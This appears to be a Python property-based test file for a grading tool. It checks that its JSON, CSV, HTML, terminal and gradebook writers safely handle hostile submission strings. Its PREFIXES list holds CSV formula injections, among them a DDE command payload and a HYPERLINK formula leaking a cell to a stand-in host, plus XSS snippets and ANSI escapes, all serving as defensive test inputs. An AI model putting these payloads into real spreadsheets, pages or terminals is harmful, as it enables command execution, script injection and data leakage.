"""Every writer takes any string a submission can put in a result.

Hypothesis draws names, messages, hints, notes and outputs from all of Unicode,
lone surrogates included (a file name that is not UTF-8 arrives as one, through
:func:`os.fsdecode`), control characters included, with the prefixes that have
broken graders' reports: spreadsheet formulas (OWASP's CSV injection list), rich
markup, ANSI escapes, bidi overrides, HTML.  For each result, every writer must
produce a valid file: JSON that parses strictly and reads back the same path, a
CSV with the right columns and no cell a spreadsheet would evaluate, HTML whose
only tags are the template's, a terminal table and a check report with no escape
sequence in them (on a terminal, the report's own styles only), and a gradebook
comment that SQLite can store.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
from html.parser import HTMLParser

from hypothesis import given, settings
from hypothesis import strategies as st
from rich.console import Console

from gdgrade.grading.gradebook import _comment
from gdgrade.grading.reports import (
    print_check_report,
    print_class_table,
    render_feedback,
    render_summary,
    summarize,
)
from gdgrade.grading.reports.files import Journal, read_results, write_csv, write_json
from gdgrade.grading.reports.text import FORMULA_STARTS, csv_cell, printable
from gdgrade.grading.results import CheckResult, Outcome, SubmissionResult

PREFIXES = [
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    " =",
    "\uff1d",
    '=HYPERLINK("http://x/?"&A2,"click")',
    "=cmd|' /C calc'!A0",
    "[/link]",
    "[bold]",
    "[link=http://x]",
    "\x1b[2J\x1b[31m",
    "\r\x1b[1A",
    "\u202e",
    "\u200b",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "\udcff",
    "\ud800",
    os.fsdecode(b"st\xe9\xff"),
    "\x00",
    "a\nb",
]

STYLE = re.compile("\x1b\\[[0-9;]*m")
"""An ANSI style (SGR): colour, bold, italic; it cannot move the cursor or clear a line."""

ANY_CHARACTER = st.characters(codec=None, categories=None, exclude_categories=())
TEXT = st.text(ANY_CHARACTER, max_size=40)
HOSTILE = st.one_of(TEXT, st.builds(str.__add__, st.sampled_from(PREFIXES), TEXT))

TEMPLATE_TAGS = {
    "html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "p", "code", "ul",
    "li", "img", "table", "tr", "th", "td", "a", "section", "pre",
}  # fmt: skip


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attrs)


@st.composite
def results(draw) -> SubmissionResult:
    outcome = Outcome(
        draw(st.sampled_from(["failed", "error", "not-done"])),
        draw(HOSTILE),
        hint=draw(st.none() | HOSTILE),
        mistake=draw(st.none() | HOSTILE),
        counterexample={"input": {draw(HOSTILE): draw(HOSTILE)}, "got": [draw(HOSTILE)]},
    )
    tests = [
        CheckResult("gradient", draw(HOSTILE), 0.0, 2.0, "public", outcome),
        CheckResult("cost", "the cost", 1.0, 1.0, "hidden", Outcome()),
    ]
    return SubmissionResult(
        submission=draw(HOSTILE) or "x",
        assignment="adaline-gd",
        tests=tests,
        problems=draw(st.lists(HOSTILE, max_size=3)),
        output=draw(HOSTILE),
        fingerprint="f",
    )


def _strict(text: str):
    def refuse(name):
        raise ValueError(f"not JSON: {name}")

    return json.loads(text, parse_constant=refuse)


@settings(max_examples=150)
@given(st.lists(results(), min_size=1, max_size=3, unique_by=lambda r: r.submission))
def test_every_writer_writes_a_valid_file_whatever_the_strings(tmp_path_factory, batch):
    tmp = tmp_path_factory.mktemp("w")

    # JSON, and the journal: strict JSON, each path read back exactly (resume works)
    write_json(tmp / "results.json", batch)
    data = _strict((tmp / "results.json").read_bytes().decode("ascii"))
    assert [d["submission"] for d in data] == [r.submission for r in batch]
    journal = Journal(tmp / "j.json")
    for r in batch:
        journal.append(r)
    journal.close(remove=False)
    assert set(read_results(tmp / "j.json")) == {r.submission for r in batch}

    # CSV: parses, one column per header, no cell a spreadsheet would evaluate
    write_csv(tmp / "grades.csv", batch)
    text = (tmp / "grades.csv").read_bytes().decode("utf-8")  # strict UTF-8
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == len(batch) + 1
    assert all(len(row) == len(rows[0]) for row in rows)
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell
            assert not cell.lstrip().startswith(FORMULA_STARTS), cell
    assert [row[0] for row in rows[1:]] == [csv_cell(r.submission) for r in batch]

    # HTML: valid UTF-8, and nothing the submission wrote became a tag or an attribute
    pages = [render_feedback(r) for r in batch]
    pages.append(render_summary(batch, summarize(batch), {r.submission: "p.html" for r in batch}))
    for page in pages:
        page.encode("utf-8")
        parser = _Tags()
        parser.feed(page)
        assert parser.tags <= TEMPLATE_TAGS, parser.tags - TEMPLATE_TAGS
        assert parser.attributes <= {"lang", "charset", "href", "id", "class", "alt", "src"}

    # the terminal: the class table (rich) and the student's report (the standard
    # library's writer) render, with no escape or carriage return
    out = io.StringIO()
    console = Console(file=out, width=100, color_system=None, force_terminal=False)
    print_class_table(batch, summarize(batch), console)
    for r in batch:
        print_check_report(r, out, width=100)
    shown = out.getvalue()
    shown.encode("utf-8")
    assert "\x1b" not in shown and "\r" not in shown and "\u202e" not in shown
    # on a terminal, the report's only escapes are its own styles: without them, it is
    # the same text, character for character
    for r in batch:
        plain, styled = io.StringIO(), io.StringIO()
        print_check_report(r, plain, width=40, styled=False)
        print_check_report(r, styled, width=40, styled=True)
        assert "\x1b[" in styled.getvalue()
        assert STYLE.sub("", styled.getvalue()) == plain.getvalue()
        assert "\x1b" not in plain.getvalue() and "\r" not in plain.getvalue()

    # the gradebook's comment: what SQLite stores (UTF-8)
    for r in batch:
        for part in ("adaline", "derivation"):
            _comment(r, part).encode("utf-8")


@given(HOSTILE)
def test_printable_keeps_what_it_can_and_escapes_the_rest(text):
    out = printable(text)
    out.encode("utf-8")
    assert "\x1b" not in out and "\r" not in out
    if text.isprintable() or set(text) <= set("\n\t") | {c for c in text if c.isprintable()}:
        assert all(c in out for c in text if c.isprintable() and c not in "\u2028\u2029")
